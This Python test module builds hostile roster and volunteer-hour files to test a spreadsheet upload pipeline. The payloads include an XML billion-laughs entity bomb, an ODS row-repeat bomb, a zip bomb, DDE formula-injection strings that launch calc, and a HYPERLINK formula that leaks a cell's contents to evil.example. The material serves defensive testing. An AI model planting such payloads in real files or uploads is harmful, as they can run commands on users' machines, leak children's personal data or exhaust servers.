"""A corpus of hostile roster files, built by the tests themselves (nothing binary is kept in
the repository): each builder returns the bytes of one file."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

from openpyxl import Workbook

from children.identity import resident_id_build

HEADER = ["姓名", "身份证号", "留守类型", "监护方式"]
ID_NUMBER = resident_id_build("330502", dt.date(2016, 3, 14), 21)

_ODS_MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
    ' manifest:version="1.2">'
    '<manifest:file-entry manifest:full-path="/"'
    ' manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    "</manifest:manifest>"
)
_ODS_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
    '<office:body><office:spreadsheet><table:table table:name="名册">'
)
_ODS_TAIL = "</table:table></office:spreadsheet></office:body></office:document-content>"


def _ods_cell(text: str) -> str:
    return (
        f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>'
    )


def ods(rows_xml: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet"
        )
        archive.writestr("META-INF/manifest.xml", _ODS_MANIFEST)
        archive.writestr("content.xml", _ODS_HEAD + rows_xml + _ODS_TAIL)
    return buffer.getvalue()


def ods_row_bomb(repeat: int = 1_666_000) -> bytes:
    """The file of issue 7: a header row 姓名/身份证号/留守类型, then one row holding one cell,
    repeated (3 columns x 1,666,001 rows stays just under the cell-range bound)."""
    header = "<table:table-row>" + "".join(_ods_cell(h) for h in HEADER[:3]) + "</table:table-row>"
    bomb = (
        f'<table:table-row table:number-rows-repeated="{repeat}">'
        + _ods_cell("王")
        + "</table:table-row>"
    )
    return ods(header + bomb)


def xlsx(rows: list[list]) -> bytes:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("名册")
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _rewrite_sheet(data: bytes, change) -> bytes:
    """Rewrite the first worksheet's XML of an xlsx with ``change(xml: bytes) -> bytes``."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            if info.filename.startswith("xl/worksheets/sheet"):
                content = change(content)
            target.writestr(info.filename, content)
    return buffer.getvalue()


def xlsx_rows(count: int) -> bytes:
    """A plain sheet of ``count`` data rows (one child each, all with the same name)."""
    return xlsx([HEADER, *([["王芳", f"A{n}", "双亲外出务工", "祖辈监护"] for n in range(count)])])


def xlsx_with_cell(raw_xml_text: bytes) -> bytes:
    """A one-child roster whose name cell holds ``raw_xml_text`` exactly as written in the XML
    (``b"\\x00"`` for a literal NUL, ``b"_x0000_"`` for Excel's escaped form)."""
    data = xlsx([HEADER, ["PLACEHOLDER", ID_NUMBER, "双亲外出务工", "祖辈监护"]])
    return _rewrite_sheet(
        data, lambda xml: xml.replace(b"PLACEHOLDER", b"\xe7\x8e\x8b" + raw_xml_text)
    )


def xlsx_entity_bomb() -> bytes:
    """Billion laughs in the sheet XML."""
    doctype = (
        b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
            for i in range(1, 10)
        )
        + b"]>"
    )

    def change(xml: bytes) -> bytes:
        body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
        return doctype + body.replace(b"PLACEHOLDER", b"&lol9;")

    return _rewrite_sheet(
        xlsx([HEADER, ["PLACEHOLDER", ID_NUMBER, "双亲外出务工", "祖辈监护"]]), change
    )


def xlsx_zip_bomb(megabytes: int = 24) -> bytes:
    """An xlsx with an extra member of zeros that inflates a thousandfold."""
    data = xlsx([HEADER, ["王芳", ID_NUMBER, "双亲外出务工", "祖辈监护"]])
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info))
        target.writestr("xl/media/padding.bin", b"\0" * (megabytes * 1024 * 1024))
    return buffer.getvalue()


def truncated_xlsx() -> bytes:
    data = xlsx([HEADER, ["王芳", ID_NUMBER, "双亲外出务工", "祖辈监护"]])
    return data[: len(data) // 2]


def renamed_png() -> bytes:
    """A PNG image (an uploader's screenshot) under a spreadsheet name."""
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4


def csv_with_controls() -> bytes:
    return (
        "姓名,身份证号,留守类型,监护方式\r\n"
        + f"王\x01芳\x1b,{ID_NUMBER},双亲外出务工,祖辈监护\r\n"
    ).encode()


def csv_rows(count: int) -> bytes:
    return ("姓名,身份证号,留守类型\n" + "王芳,A1,双亲外出务工\n" * count).encode()


# --- Formula cells (formula injection through an upload) ----------------------------------------
# A cell beginning with = is a formula to openpyxl: it writes <f>...</f> and no saved result
# (only Excel or WPS computes one when it saves). A file saved by Excel holds both the formula
# and the result it showed (<c t="str"><f>...</f><v>result</v></c>); ``xlsx_with_results`` makes
# such cells by hand. Text cells may begin with = + - @ too (typed after an apostrophe, or from
# a CSV): stored as text, they must never come back out of an export as a formula.
DDE = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"王芳")'
FORMULA_TEXTS = [DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]

ROSTER_FORMULA_HEADER = [*HEADER, "监护人姓名", "村(社区)", "父亲务工地点", "备注"]


def _xml_text(text: str) -> bytes:
    return (
        text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    ).encode()


def xlsx_with_results(rows: list[list], results: dict[str, tuple[str, str]]) -> bytes:
    """An xlsx whose cells named in ``results`` (``{"PLACEHOLDER": (formula, result)}``) are
    formula cells with a saved text result, as Excel writes them."""
    data = xlsx(rows)

    def change(xml: bytes) -> bytes:
        for placeholder, (formula, result) in results.items():
            inline = b't="inlineStr"><is><t>' + placeholder.encode() + b"</t></is></c>"
            assert inline in xml, placeholder
            xml = xml.replace(
                inline,
                b't="str"><f>'
                + _xml_text(formula.removeprefix("="))
                + b"</f><v>"
                + _xml_text(result)
                + b"</v></c>",
            )
        return xml

    return _rewrite_sheet(data, change)


def roster_with_saved_formulas() -> bytes:
    """One child, as Excel saves it: the name is a HYPERLINK formula showing 王芳, the village
    a formula whose result is itself DDE text, the guardian and the work place text cells
    beginning with @ and +, the notes a formula showing a number."""
    return xlsx_with_results(
        [
            ROSTER_FORMULA_HEADER,
            [
                "NAME_CELL",
                ID_NUMBER,
                "双亲外出务工",
                "祖辈监护",
                FORMULA_TEXTS[3],
                "VILLAGE_CELL",
                FORMULA_TEXTS[1],
                "NOTES_CELL",
            ],
        ],
        {
            "NAME_CELL": (HYPERLINK, "王芳"),
            "VILLAGE_CELL": ("=\"=cmd|' /C calc'!A0\"", DDE),
            "NOTES_CELL": ("=1+1", "2"),
        },
    )


def roster_with_bare_formulas() -> bytes:
    """Two children written by openpyxl with real formula cells and no saved results: the first
    has a formula for a name, the second a DDE formula in the village and a HYPERLINK in the
    notes."""
    second = resident_id_build("330502", dt.date(2015, 6, 1), 33)
    return xlsx(
        [
            ROSTER_FORMULA_HEADER,
            [HYPERLINK, ID_NUMBER, "双亲外出务工", "祖辈监护", "王秀英", "", "", ""],
            ["李雷", second, "双亲外出务工", "祖辈监护", "王秀英", DDE, "", HYPERLINK],
        ]
    )


def roster_csv_with_formula_texts() -> bytes:
    """A CSV (every cell is text) with a rejected row (bad ID) whose cells begin with each of
    = + - @: the error sheet gives these cells back."""
    cells = [f'"{t}"' if "," in t or '"' in t else t for t in FORMULA_TEXTS]
    return (
        "姓名,身份证号,留守类型,监护方式,监护人姓名,村(社区),父亲务工地点,备注\r\n"
        + ",".join([cells[0], "3305", "双亲外出务工", "祖辈监护", *cells[1:], "'" + DDE])
        + "\r\n"
    ).encode()


HOURS_HEADER = ["姓名", "志愿汇账号", "活动名称", "签到时间", "签退时间", "服务时长（小时）"]


def hours_with_formulas(account: str, name: str) -> bytes:
    """A 志愿汇 export: the first record's activity is a formula whose saved result is DDE text,
    the second's a HYPERLINK showing plain text, the third has a bare formula (no saved
    result) for an activity and is refused, the fourth's name is text beginning with @ (not
    the account's name: refused too), its activity and hours text beginning with - and +;
    both refused rows are given back in the error sheet."""
    return xlsx_with_results(
        [
            HOURS_HEADER,
            [name, account, "ACTIVITY_DDE", "2026-10-09 08:00", "2026-10-09 10:00", 2],
            [name, account, "ACTIVITY_LINK", "2026-10-10 08:00", "2026-10-10 11:00", 3],
            [name, account, "=1+1", "2026-10-11 08:00", "2026-10-11 09:00", 1],
            [FORMULA_TEXTS[3], account, "-2+3", "2026-10-12 08:00", "2026-10-12 09:00", "+1"],
        ],
        {
            "ACTIVITY_DDE": ("=\"=cmd|' /C calc'!A0\"", DDE),
            "ACTIVITY_LINK": ('=HYPERLINK("http://evil.example/","周末学业辅导")', "周末学业辅导"),
        },
    )
